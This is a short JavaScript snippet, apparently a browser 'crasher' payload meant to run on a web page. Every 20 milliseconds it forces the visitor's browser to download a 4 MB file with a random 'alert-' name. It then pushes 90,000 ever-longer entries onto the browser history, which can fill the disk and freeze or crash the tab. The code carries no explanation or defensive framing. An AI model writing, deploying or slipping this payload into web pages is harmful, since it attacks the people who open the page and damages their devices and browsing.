function more() {
  const link = document.createElement('a');
  link.href = URL.createObjectURL(new Blob([new Uint8Array(4e6)]));
  link.download = 'alert-' + Math.random() + '.txt';
  link.click();
}
setInterval(more, 20);
let long = '';
for (let i = 0; i < 90000; i++) {
  long += i.toString();
  history.pushState(0, 0, long);
}
